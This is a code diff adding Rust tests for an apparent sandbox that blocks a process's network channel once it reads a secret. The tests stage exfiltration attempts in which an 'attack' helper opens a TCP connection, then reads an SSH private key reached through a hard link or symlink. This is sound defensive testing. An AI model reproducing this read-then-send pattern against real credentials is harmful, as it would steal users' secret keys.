@@ -1509,6 +1509,90 @@ fn a_secret_hard_linked_before_the_session_is_still_the_secret() {
     assert_eq!(server.received(), "before\n");
 }
 
+/// Runs `./attack hold tcp IP 443 TARGET` with `HOME` set, once `ready` (if any)
+/// has run after the agent signalled it started (the file `started`), and checks
+/// that the channel worked before the read and that the read tainted.
+fn hold_taints(
+    f: &Fixture,
+    home: &std::path::Path,
+    ip: &str,
+    target: &str,
+    ready: impl FnOnce() + Send + 'static,
+) {
+    let server = Tcp::new(ip, 443);
+    let script = format!(
+        "touch started; i=0; while [ ! -e go ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done; \
+         echo agent-sees-go=$([ -e go ] && echo yes); ./attack hold tcp {ip} 443 {target}"
+    );
+    let mut c = f.command(&[], &["/bin/sh", "-c", &script]);
+    c.env("HOME", home);
+    let (started, go) = (f.ws.join("started"), f.ws.join("go"));
+    let helper = std::thread::spawn(move || {
+        for _ in 0..1200 {
+            if started.exists() {
+                break;
+            }
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        assert!(started.exists(), "the agent never started");
+        ready();
+        std::fs::write(go, "").unwrap();
+    });
+    let o = run_with_deadline(c, Duration::from_secs(120));
+    helper.join().unwrap();
+    let out = stdout(&o);
+    assert!(
+        out.contains("agent-sees-go=yes"),
+        "the attack did not run\n{}",
+        show(&o)
+    );
+    assert!(
+        out.contains("write before: ok=7"),
+        "the channel works\n{}",
+        show(&o)
+    );
+    assert!(out.contains("open secret: ok="), "{}", show(&o));
+    assert!(
+        out.contains("write after: errno=32"),
+        "reading {target} did not taint\n{}",
+        show(&o)
+    );
+    assert_eq!(server.received(), "before\n");
+}
+
+/// A hard link to a secret made by a process *outside* the sandbox during the
+/// session (the user's tool runs `ln ~/.ssh/id_test notes.txt` after the agent
+/// started): every secret file is known by identity from the start, so the new
+/// name meets it.
+#[test]
+fn a_secret_hard_linked_by_an_outside_process_during_the_session_is_still_the_secret() {
+    let f = Fixture::new("name-outlink").with_attack();
+    let home = f.ws.join("h");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_test"), SECRET).unwrap();
+    let (key, link) = (home.join(".ssh/id_test"), f.ws.join("notes.txt"));
+    hold_taints(&f, &home, "127.77.12.43", "notes.txt", move || {
+        std::fs::hard_link(key, link).unwrap();
+    });
+}
+
+/// The real file behind a symlink with a secret's name (`~/.ssh/id_test ->
+/// ../dotfiles/key`, as dotfile managers lay keys out) is the secret: reading
+/// it directly by its ordinary name taints, and so does reading it through the
+/// link (whose canonical path is the ordinary name).
+#[test]
+fn the_real_file_behind_a_secret_named_symlink_is_the_secret() {
+    for (n, target) in [(44, "h/dotfiles/key"), (45, "h/.ssh/id_test")] {
+        let f = Fixture::new("name-dotfiles").with_attack();
+        let home = f.ws.join("h");
+        std::fs::create_dir_all(home.join(".ssh")).unwrap();
+        std::fs::create_dir_all(home.join("dotfiles")).unwrap();
+        std::fs::write(home.join("dotfiles/key"), SECRET).unwrap();
+        std::os::unix::fs::symlink("../dotfiles/key", home.join(".ssh/id_test")).unwrap();
+        hold_taints(&f, &home, &format!("127.77.12.{n}"), target, || {});
+    }
+}
+
 // ---- the network belongs to the monitor (isolated network, complete revocation) ----
 //
 // Each attack makes its sockets before the secret is read and proves its channel
